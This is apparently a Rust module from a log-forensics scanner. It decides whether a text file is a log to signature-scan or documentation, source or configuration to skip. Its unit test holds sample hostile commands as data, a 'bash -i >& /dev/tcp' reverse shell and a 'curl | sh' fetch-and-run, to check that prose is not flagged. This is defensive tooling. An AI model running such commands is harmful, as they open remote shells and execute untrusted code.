//! Is this text a log? Signatures run on logs, not on documentation, source code or
//! configuration: a `curl | sh` in a README, a `/dev/tcp` example in a changelog or a
//! `${#var}` in a manual is prose, not an attack. A text artifact is a log when a fair share
//! of its lines carry a log time; without that, a documentation, source or configuration
//! name (README, CHANGES, `*.md`, `*.html`, `*.c`, `*.conf`...) makes it not a log. Any
//! other text is scanned: logs saved without times (`docker logs` without `-t`) are common.

use std::io::Read;

use serde::Serialize;

use super::time::line_time;
use crate::evidence::{Artifact, ArtifactKind};
use crate::model::Locator;

/// Bytes of a text artifact read to judge it.
const HEAD: u64 = 64 << 10;

/// A text artifact that is not a log, and why.
#[derive(Clone, Debug, Serialize)]
pub struct NotALog {
    pub locator: Locator,
    pub reason: String,
}

/// The artifacts to scan as logs, and the text artifacts that are not logs.
pub(crate) fn split<'a>(artifacts: &[&'a Artifact]) -> (Vec<&'a Artifact>, Vec<NotALog>) {
    let mut logs = vec![];
    let mut not = vec![];
    for &a in artifacts {
        if a.kind == ArtifactKind::TextLog {
            let mut head = Vec::new();
            if let Ok(r) = a.open() {
                let _ = r.take(HEAD).read_to_end(&mut head);
            }
            if let Some(reason) = not_a_log(&a.path, &head) {
                not.push(NotALog { locator: a.locator(), reason });
                continue;
            }
        }
        logs.push(a);
    }
    (logs, not)
}

/// Lines sampled from the head.
const SAMPLE_LINES: usize = 400;
/// Share of sampled lines with a log time that makes a text a log whatever its name.
const TIMED_SHARE: f64 = 0.2;

/// Documentation file names (without `.gz`, case-insensitive prefixes).
const DOC_NAMES: &[&str] = &[
    "readme",
    "changes",
    "changelog",
    "history",
    "news",
    "building",
    "install",
    "copying",
    "copyright",
    "license",
    "licence",
    "authors",
    "thanks",
    "todo",
    "faq",
    "contributing",
    "notice",
    "manifest",
    "credits",
    "bugs",
    "hacking",
    "porting",
    "upgrading",
    "release-notes",
    "releasenotes",
    "makefile",
    "gnumakefile",
    "dockerfile",
    "containerfile",
    "cmakelists",
];

/// Documentation, source, script and configuration extensions.
const DOC_EXTS: &[&str] = &[
    "md", "markdown", "rst", "html", "htm", "xhtml", "xml", "xsl", "tex", "texi", "info", "pod", "man", "1",
    "2", "3", "4", "5", "6", "7", "8", "9", "c", "h", "cc", "cpp", "hpp", "py", "pl", "pm", "rb", "java",
    "js", "mjs", "ts", "go", "rs", "sh", "bash", "zsh", "bashrc", "profile", "el", "vim", "lua", "php",
    "conf", "cfg", "ini", "toml", "yaml", "yml", "example", "examples", "sample", "dist", "in", "css", "svg",
    "desktop", "service", "awk", "sed", "mk", "cmake", "patch", "diff", "json", "ps", "pdf", "cocci", "tcl",
    "m4", "ac", "am",
];

/// Why a text artifact is not scanned as a log, or None when it is a log.
pub(crate) fn not_a_log(name: &str, head: &[u8]) -> Option<String> {
    let lines: Vec<&[u8]> = head
        .split(|&b| b == b'\n')
        .filter(|l| l.iter().any(|b| !b.is_ascii_whitespace()))
        .take(SAMPLE_LINES)
        .collect();
    let timed = lines.iter().filter(|l| line_time(l, Some(2000)).is_some()).count();
    if !lines.is_empty() && timed as f64 >= TIMED_SHARE * lines.len() as f64 {
        return None;
    }
    let what = doc_like(name)?;
    Some(format!(
        "{what} without log times ({timed} of {} sampled lines timed): documentation or source, not a log; not signature-scanned",
        lines.len()
    ))
}

/// What a name says the file is, when it says documentation, source or configuration.
fn doc_like(name: &str) -> Option<&'static str> {
    let file = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
    let file = file
        .strip_suffix(".gz")
        .or_else(|| file.strip_suffix(".bz2"))
        .or_else(|| file.strip_suffix(".xz"))
        .unwrap_or(&file);
    // A log's name: `x.log`, `x.log.1`, `x_log`, `catalina.out`, `messages`...
    let bare = file.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if bare.ends_with(".log")
        || file.contains(".log.")
        || bare.ends_with("_log")
        || bare.ends_with("-log")
        || bare.ends_with(".out")
        || bare.ends_with(".err")
        || matches!(bare, "messages" | "syslog" | "log" | "logs")
    {
        return None;
    }
    if file.contains("releasenotes") || file.contains("release-notes") {
        return Some("a documentation file");
    }
    if DOC_NAMES.iter().any(|d| file.starts_with(d)) {
        return Some("a documentation file");
    }
    let ext = file.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    if DOC_EXTS.contains(&ext) {
        return Some("a documentation, source or configuration file");
    }
    let in_doc_tree = name.split('/').any(|c| matches!(c, "doc" | "docs" | "man" | "examples" | "share"));
    in_doc_tree.then_some("a file in a documentation tree")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn documentation_is_not_a_log_unless_it_is_timed() {
        let prose = b"Version 5.2\n\n  Fixed a crash when running bash -i >& /dev/tcp/host/port\n  curl -s http://x | sh is documented\n";
        assert!(not_a_log("bash/CHANGES.gz", prose).is_some());
        assert!(not_a_log("crun/README.md.gz", prose).is_some());
        assert!(not_a_log("x/examples/bash.bashrc", prose).is_some());
        assert!(not_a_log("curl/changelog.gz", prose).is_some());
        // Any other text is scanned, times or not.
        assert!(not_a_log("output.txt", prose).is_none());
        assert!(not_a_log("app.log", prose).is_none());
        assert!(not_a_log("logs/catalina.out", prose).is_none());
        // A timed text is a log whatever its name.
        let timed = b"2026-11-27T14:00:00Z GET /x\n2026-11-27T14:00:01Z GET /y\n";
        assert!(not_a_log("README.md", timed).is_none());
        let access = b"198.51.100.4 - - [27/Nov/2026:13:00:00 +0000] \"GET / HTTP/1.1\" 200 1\n";
        assert!(not_a_log("notes.html", access).is_none());
    }
}
